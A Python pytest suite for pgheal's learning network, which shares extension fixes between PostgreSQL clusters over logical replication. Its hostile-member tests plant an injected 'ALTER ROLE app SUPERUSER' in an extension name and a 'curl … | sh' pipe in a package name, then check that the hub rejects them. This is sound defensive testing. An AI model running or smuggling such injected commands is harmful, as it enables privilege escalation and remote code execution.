"""The learning network over real logical replication: a hub and two members, each its
own cluster (wal_level = logical). What a person fixes by hand on member A is learned by
A's scan, merged by the hub and heals the same error on member C; nothing an
application named leaves A; a member that was down catches up; leaving leaves nothing.
"""

from __future__ import annotations

import json
import time
from collections.abc import Iterator

import psycopg
import pytest

from pgheal import cli, deploy, network, serverdeps
from pgheal.cluster import Cluster

from .conftest import connect, scalar

#: Planted in A's failing statements: a table, a column, a value, a type and a schema.
SECRET = "zq7secret"


def wait_for(conn: psycopg.Connection, condition: str, what: str) -> None:
    """Replication is asynchronous: poll until `condition` holds (a hang guard, not a
    measure of speed)."""
    for _ in range(1200):
        if scalar(conn, condition):
            return
        time.sleep(0.1)
    raise AssertionError(f"{what}: never true: {condition}")


def scan_until(conn: psycopg.Connection, condition: str) -> None:
    """The log collector writes asynchronously: scan until `condition` holds."""
    for _ in range(600):
        conn.execute("CALL heal.scan()")
        if scalar(conn, condition):
            return
        time.sleep(0.1)
    raise AssertionError(f"never true after scanning: {condition}")


def app_fails(dsn: str, statement: str) -> None:
    with connect(dsn) as app, pytest.raises(psycopg.Error):
        app.execute(statement)


def as_app(dsn: str) -> str:
    return dsn.replace("postgres@", "app@", 1)


@pytest.fixture(scope="module")
def fleet() -> Iterator[dict[str, Cluster]]:
    started: dict[str, Cluster] = {}
    try:
        for name in ("hub", "a", "c"):
            cluster = Cluster(pg_cron=False, csvlog=name != "hub", logical=True).start()
            started[name] = cluster
            with connect(cluster.dsn()) as conn:
                deploy.install(conn, serverdeps.default_path())
                conn.execute("CREATE ROLE app LOGIN")
                conn.execute("GRANT CREATE ON DATABASE postgres TO app")
                conn.execute("GRANT CREATE ON SCHEMA public TO app")
                conn.execute("SELECT heal.skip_log_backlog()")
        yield started
    finally:
        for cluster in started.values():
            cluster.stop()


def cli_json(*argv: str, capsys: pytest.CaptureFixture) -> object:
    capsys.readouterr()
    assert cli.main(["--json", *argv]) == 0
    return json.loads(capsys.readouterr().out)


def test_what_a_learns_heals_c_and_nothing_else_leaves_a(fleet, capsys):
    hub, a, c = (fleet[n].dsn() for n in ("hub", "a", "c"))
    made = cli_json("network", "hub", "--dsn", hub, capsys=capsys)
    assert made["created"] and made["publication"] == "pgheal_network"
    for member in (a, c):
        joined = cli_json("network", "join", "--dsn", member, "--hub", hub, capsys=capsys)
        assert joined["subscriptions"]["hub"].startswith("pgheal_from_")
    with connect(hub) as h, connect(a) as conn_a, connect(c) as conn_c:
        wait_for(h, "SELECT count(*) = 2 FROM heal.network WHERE running", "hub subscriptions")
        wait_for(conn_c, "SELECT bool_and(running) FROM heal.network", "C's subscription")

        # On A, pgheal may install nothing: people fix what applications run into.
        conn_a.execute("UPDATE heal.settings SET value = 'create_extension' "
                       "WHERE name = 'disabled_fixes'")  # fmt: skip
        conn_a.execute(f"CREATE SCHEMA {SECRET}_schema AUTHORIZATION app")
        conn_a.execute(f"CREATE DOMAIN {SECRET}_schema.{SECRET}_type AS text")
        conn_a.execute(f"GRANT USAGE ON SCHEMA {SECRET}_schema TO app")
        app_fails(as_app(a), f"SELECT uuid_generate_v4() AS {SECRET}_column, "
                             f"'{SECRET}-value' FROM (SELECT 1) AS {SECRET}_table")  # fmt: skip
        app_fails(as_app(a), f"SELECT similarity('x'::{SECRET}_schema.{SECRET}_type, "
                             f"'{SECRET}')")  # fmt: skip
        scan_until(conn_a, "SELECT count(*) = 2 FROM heal.error_fingerprints")
        conn_a.execute('CREATE EXTENSION "uuid-ossp"')  # by hand
        conn_a.execute("CREATE EXTENSION pg_trgm")
        scan_until(conn_a, "SELECT count(*) = 2 FROM heal.learned_patterns")
        # A knows the secret (its own log and lessons); what it shares does not.
        assert scalar(conn_a, f"SELECT count(*) FROM heal.learned_patterns "
                              f"WHERE message LIKE '%{SECRET}%'") == 1  # fmt: skip
        fix = conn_a.execute("SELECT object, extension, applied, held FROM heal.shared_patterns "
                             "WHERE kind = 'fix'").fetchall()  # fmt: skip
        assert fix == [("function uuid_generate_v4()", "uuid-ossp", 1, 1)]

        wait_for(conn_c, "SELECT count(*) = 1 FROM heal.network_patterns WHERE kind = 'fix'",
                 "the fix reaching C")  # fmt: skip
        assert conn_c.execute(
            "SELECT pattern, fix, enabled FROM heal.patterns WHERE source = 'network'"
        ).fetchall() == [
            (
                "function uuid_generate_v4()",
                "create_extension uuid-ossp (fixed on 1 member, held 1 of 1 times)",
                True,
            )
        ]
        merged = h.execute("SELECT members, applied, held, confidence FROM heal.network_patterns "
                           "WHERE kind = 'fix'").fetchone()  # fmt: skip
        assert merged == (1, 1, 1, pytest.approx(2 / 3))
        for conn in (conn_a, h, conn_c):
            for table in ("shared_patterns", "network_patterns"):
                assert scalar(conn, f"SELECT count(*) FROM heal.{table} t "
                                    f"WHERE t::text ILIKE '%{SECRET}%'") == 0  # fmt: skip

        # C's own catalog does not know uuid-ossp's objects (the package came after
        # pgheal catalogued the server's extensions): only the network does.
        conn_c.execute("DELETE FROM heal.extension_objects WHERE extension = 'uuid-ossp'")
        conn_c.execute("UPDATE heal.settings SET value = 'off' WHERE name = 'network_patterns'")
        with pytest.raises(psycopg.Error) as off:
            conn_c.execute("CALL heal.migrate('SELECT uuid_generate_v4()')")
        assert "learning network" not in str(off.value)

        conn_c.execute("UPDATE heal.settings SET value = 'suggest' "
                       "WHERE name = 'network_patterns'")  # fmt: skip
        with pytest.raises(psycopg.Error) as suggested:
            conn_c.execute("CALL heal.migrate('SELECT uuid_generate_v4()')")
        assert ("the learning network knows one: install extension uuid-ossp (fixed it on 1 "
                "member; held 1 of 1 times)") in str(suggested.value)  # fmt: skip
        planned = conn_c.execute("SELECT fix, reason FROM heal.plan('SELECT uuid_generate_v4()')"
                                 ).fetchone()  # fmt: skip
        assert planned[0] is None and "network_patterns" in planned[1]
        assert scalar(conn_c, "SELECT count(*) FROM pg_extension WHERE extname = 'uuid-ossp'") == 0

        # apply: the scan heals what an application ran into, from the network.
        conn_c.execute("UPDATE heal.settings SET value = 'apply' WHERE name = 'network_patterns'")
        app_fails(as_app(c), "SELECT uuid_generate_v4()")
        scan_until(conn_c, "SELECT count(*) = 1 FROM heal.build_events "
                           "WHERE event_type = 'auto_heal_success'")  # fmt: skip
        source, used = conn_c.execute(
            "SELECT detail ->> 'source', detail -> 'network' FROM heal.build_events "
            "WHERE event_type = 'auto_heal_success'"
        ).fetchone()
        assert source == "network" and used["extension"] == "uuid-ossp" and used["members"] == 1
        assert scalar(conn_c, "SELECT fix_source FROM heal.error_fingerprints") == "network"
        with connect(as_app(c)) as app:  # installed where the app may use it
            assert scalar(app, "SELECT extensions.uuid_generate_v4() IS NOT NULL") is True

        # Each side logs in to the other as a role that is no superuser.
        for conn in (conn_a, h):
            logins = [r[0] for r in conn.execute("SELECT subconninfo FROM pg_subscription")]
            assert logins and all(f"user={network.REPLICATOR}" in x for x in logins)
        assert scalar(h, "SELECT rolsuper FROM pg_roles WHERE rolname = %s",
                      (network.REPLICATOR,)) is False  # fmt: skip
        status = cli_json("network", "status", "--dsn", hub, capsys=capsys)
        assert [r["role"] for r in status] == ["hub", "hub"]
        assert all(r["enabled"] and r["running"] for r in status)
        health = h.execute("SELECT status, detail FROM heal.health WHERE name = 'network'"
                           ).fetchone()  # fmt: skip
        assert health == ("ok", "hub: 2 subscriptions enabled, running and in touch")


HSTORE_FIX = (
    "SELECT count(*) = 1 FROM heal.network_patterns WHERE kind = 'fix' AND object = 'type hstore'"
)


def test_a_member_that_was_down_catches_up(fleet):
    hub, a, c = (fleet[n].dsn() for n in ("hub", "a", "c"))
    fleet["c"].pause()
    try:
        with connect(a) as conn_a, connect(hub) as h:
            app_fails(as_app(a), "SELECT 'a=>1'::hstore")
            scan_until(conn_a, "SELECT count(*) = 3 FROM heal.error_fingerprints")
            conn_a.execute("CREATE EXTENSION hstore")
            scan_until(conn_a, "SELECT count(*) = 3 FROM heal.learned_patterns")
            wait_for(h, HSTORE_FIX, "hstore at the hub")
            # The hub's subscription to C has no worker while C is down.
            wait_for(h, "SELECT status = 'error' AND detail LIKE '%has no worker running%' "
                        "FROM heal.health WHERE name = 'network'", "the hub's health")  # fmt: skip
    finally:
        fleet["c"].resume()
    with connect(c) as conn_c:
        wait_for(conn_c, HSTORE_FIX, "C catching up")


def test_a_hostile_member_speaks_only_for_itself(fleet):
    """Rows reach the hub from databases it does not control: another member's id,
    counts out of bounds, names of no name's shape and a TRUNCATE are not taken."""
    hub, a, c = (fleet[n].dsn() for n in ("hub", "a", "c"))
    with connect(a) as conn_a, connect(hub) as h, connect(c) as conn_c:
        c_id = scalar(conn_c, "SELECT member_id::text FROM heal.network_member")
        before = scalar(h, "SELECT count(*) FROM heal.shared_patterns WHERE member_id = %s",
                        (c_id,))  # fmt: skip
        for member, obj, ext, applied, held in (
            ("c_id", "function forged()", "uuid-ossp", 1, 1),  # C's id, from A
            ("own", "function huge()", "uuid-ossp", 9223372036854775805, 9223372036854775806),
            ("own", "function more_held()", "uuid-ossp", 1, 5),
            ("own", "function told()", "adminpack; ALTER ROLE app SUPERUSER", 1, 1),
            ("own", "function fine()", "uuid-ossp", 1, 1),
        ):
            conn_a.execute(
                """INSERT INTO heal.shared_patterns (member_id, kind, object_kind, object,
                          extension, applied, held)
                   SELECT CASE %s WHEN 'own' THEN member_id ELSE %s::uuid END, 'fix',
                          'function', %s, %s, %s, %s FROM heal.network_member""",
                (member, c_id, obj, ext, applied, held),
            )
        wait_for(h, "SELECT count(*) = 1 FROM heal.network_patterns "
                    "WHERE object = 'function fine()'", "the one good row")  # fmt: skip
        assert scalar(h, "SELECT count(*) FROM heal.shared_patterns WHERE object IN "
                         "('function forged()', 'function huge()', 'function more_held()', "
                         "'function told()')") == 0  # fmt: skip
        # A deletes C's rows, and empties the table past its own settings.
        conn_a.execute("DELETE FROM heal.shared_patterns")  # its own replicate; C's are not there
        conn_a.execute("ALTER PUBLICATION pgheal_shared SET (publish = 'insert, update, delete, "
                       "truncate')")  # fmt: skip
        conn_a.execute("ALTER TABLE heal.shared_patterns DISABLE TRIGGER "
                       "shared_patterns_no_truncate")  # fmt: skip
        conn_a.execute("TRUNCATE heal.shared_patterns")
        wait_for(h, "SELECT status = 'error' FROM heal.health WHERE name = 'network'",
                 "the hub refusing A's TRUNCATE")  # fmt: skip
        assert scalar(h, "SELECT count(*) FROM heal.shared_patterns WHERE member_id = %s",
                      (c_id,)) == before > 0  # fmt: skip
        conn_a.execute("ALTER TABLE heal.shared_patterns ENABLE TRIGGER "
                       "shared_patterns_no_truncate")  # fmt: skip


def test_a_join_that_cannot_stream_is_undone_and_says_why(fleet, capsys):
    hub, a = fleet["hub"].dsn(), fleet["a"].dsn()
    with Cluster(pg_cron=False, csvlog=False, logical=True) as d:
        with connect(d.dsn()) as conn:
            deploy.install(conn, serverdeps.default_path())
        capsys.readouterr()
        # A superuser's login would be stored on the other side: refused.
        assert cli.main(["network", "join", "--dsn", d.dsn(), "--hub", hub,
                         "--member-conninfo", d.dsn()]) == 2  # fmt: skip
        assert "logs in as postgres, a superuser" in capsys.readouterr().err
        # The hub's server reaches the hub itself, where no member publishes.
        wrong = hub.replace("postgres@", f"{network.REPLICATOR}@", 1)
        code = cli.main(["network", "join", "--dsn", d.dsn(), "--hub", hub,
                         "--member-conninfo", wrong])  # fmt: skip
        assert code == 2
        said = capsys.readouterr().err
        assert "found no table to copy: does --member-conninfo reach the right database?" in said
        with connect(d.dsn()) as conn, connect(hub) as h:
            assert scalar(conn, "SELECT role FROM heal.network") == "alone"
            assert scalar(conn, "SELECT count(*) FROM pg_replication_slots") == 0
            assert scalar(conn, "SELECT count(*) FROM pg_publication") == 0
            assert scalar(h, "SELECT count(*) FROM heal.network_members") == 2
            assert scalar(h, "SELECT count(*) FROM pg_subscription") == 2

        # A member gone for good is removed on the hub alone.
        joined = cli_json("network", "join", "--dsn", d.dsn(), "--hub", hub, capsys=capsys)
        # (join returns once both of its subscriptions stream)
    with connect(hub) as h:  # D's cluster is gone
        forgot = cli_json("network", "leave", "--dsn", hub, "--member", joined["member_id"],
                          capsys=capsys)  # fmt: skip
        assert f"hub: member {joined['member_id']} and its patterns" in forgot["removed"]
        assert scalar(h, "SELECT count(*) FROM heal.network_members") == 2
        assert scalar(h, "SELECT count(*) FROM pg_subscription") == 2
        assert scalar(h, "SELECT count(*) FROM pg_replication_slots") == 2
        assert scalar(h, "SELECT count(*) FROM heal.shared_patterns WHERE member_id = %s",
                      (joined["member_id"],)) == 0  # fmt: skip
    # Leaving through a database that is not this member's hub changes nothing.
    assert cli.main(["network", "leave", "--dsn", a, "--hub", fleet["c"].dsn()]) == 2
    assert "--hub is not this member's hub" in capsys.readouterr().err


def test_truncate_is_refused_where_it_would_not_replicate(fleet):
    with connect(fleet["c"].dsn()) as conn, pytest.raises(psycopg.Error, match="DELETE its rows"):
        conn.execute("TRUNCATE heal.shared_patterns")


def test_leaving_leaves_no_slot_subscription_or_row(fleet, capsys):
    hub, a, c = (fleet[n].dsn() for n in ("hub", "a", "c"))
    for member in (a, c):
        left = cli_json("network", "leave", "--dsn", member, "--hub", hub, capsys=capsys)
        assert left["left_behind"] == []
        assert any(r.startswith("hub: replication slot") for r in left["removed"])
    for dsn in (hub, a, c):
        with connect(dsn) as conn:
            assert scalar(conn, "SELECT count(*) FROM pg_replication_slots") == 0
            assert scalar(conn, "SELECT count(*) FROM pg_subscription") == 0
            assert scalar(conn, "SELECT count(*) FROM heal.network_patterns") == 0
            assert scalar(conn, "SELECT count(*) FROM heal.network_members") == 0
    with connect(hub) as h:
        assert scalar(h, "SELECT count(*) FROM heal.shared_patterns") == 0
        assert scalar(h, "SELECT count(*) FROM pg_publication") == 1  # the hub's own
    closed = cli_json("network", "leave", "--dsn", hub, capsys=capsys)  # no members left
    assert "hub: publication pgheal_network" in closed["removed"]
    with connect(hub) as h:
        assert scalar(h, "SELECT count(*) FROM pg_publication") == 0
        assert scalar(h, "SELECT role FROM heal.network") == "alone"
    with connect(a) as conn_a:
        assert scalar(conn_a, "SELECT count(*) FROM pg_publication") == 0
        assert scalar(conn_a, "SELECT role FROM heal.network") == "alone"
        # What A shares is made again (its rows were deleted above), for the next hub.
        conn_a.execute("SELECT heal.share_patterns()")
        assert scalar(conn_a, "SELECT count(*) FROM heal.shared_patterns WHERE kind = 'fix'") == 2


def test_prerequisites_name_the_settings_to_change(conn, dsn, capsys):
    """The suite's own cluster runs with wal_level = replica."""
    found = network.problems(conn, "member")
    assert any("wal_level is replica" in p and "ALTER SYSTEM SET wal_level = logical;" in p
               and "then restart the server" in p for p in found)  # fmt: skip
    capsys.readouterr()
    assert cli.main(["network", "hub", "--dsn", dsn]) == 2
    assert "ALTER SYSTEM SET wal_level = logical;" in capsys.readouterr().err


def _network_row(conn: psycopg.Connection, extension: str, members: int, package: str) -> None:
    """A row of heal.network_patterns, as a hub would replicate it."""
    conn.execute(
        """INSERT INTO heal.network_patterns (kind, object_kind, object, extension, os_package,
                  members, applied, held, confidence, updated_at)
           VALUES ('provides', 'type', 'vectorx', %s, %s, %s, 0, 0, 1, now())""",
        (extension, package, members),
    )


def test_an_extension_this_host_lacks_is_named_from_the_network(conn):
    _network_row(conn, "vectorx", 3, "postgresql-{major}-pgvectorx")
    with pytest.raises(psycopg.Error) as failed:
        conn.execute("CALL heal.migrate('CREATE TABLE items (embedding vectorx)')")
    major = int(scalar(conn, "SELECT current_setting('server_version_num')")) // 10000
    assert (f"type vectorx is provided by extension vectorx, available on 3 members; OS package "
            f"postgresql-{major}-pgvectorx (the learning network), which this server does not "
            "have") in str(failed.value)  # fmt: skip
    assert scalar(conn, "SELECT reason_kind FROM heal.build_events "
                        "WHERE event_type = 'auto_heal_failed'") == "unavailable"  # fmt: skip
    reason = scalar(conn, "SELECT reason FROM heal.plan('CREATE TABLE items (embedding vectorx)')")
    assert "available on 3 members" in reason


def test_network_text_that_is_no_name_is_never_told(conn):
    _network_row(conn, "vectorx", 2, "pkg; curl http://example.invalid | sh")
    _network_row(conn, "vectorx -- run this", 5, "postgresql-{major}-x")
    reason = scalar(conn, "SELECT reason FROM heal.plan('CREATE TABLE items (embedding vectorx)')")
    assert "curl" not in reason and "run this" not in reason and "member" not in reason


def test_network_patterns_setting_is_checked(conn):
    with pytest.raises(psycopg.Error, match="must be one of off, suggest, apply"):
        conn.execute("UPDATE heal.settings SET value = 'always' WHERE name = 'network_patterns'")
    setting = "SELECT value FROM heal.settings WHERE name = 'network_patterns'"
    assert scalar(conn, setting) == "suggest"
    health = "SELECT status, detail FROM heal.health WHERE name = 'network'"
    assert conn.execute(health).fetchone() == (
        "ok", "not in a learning network (pgheal network join)")  # fmt: skip
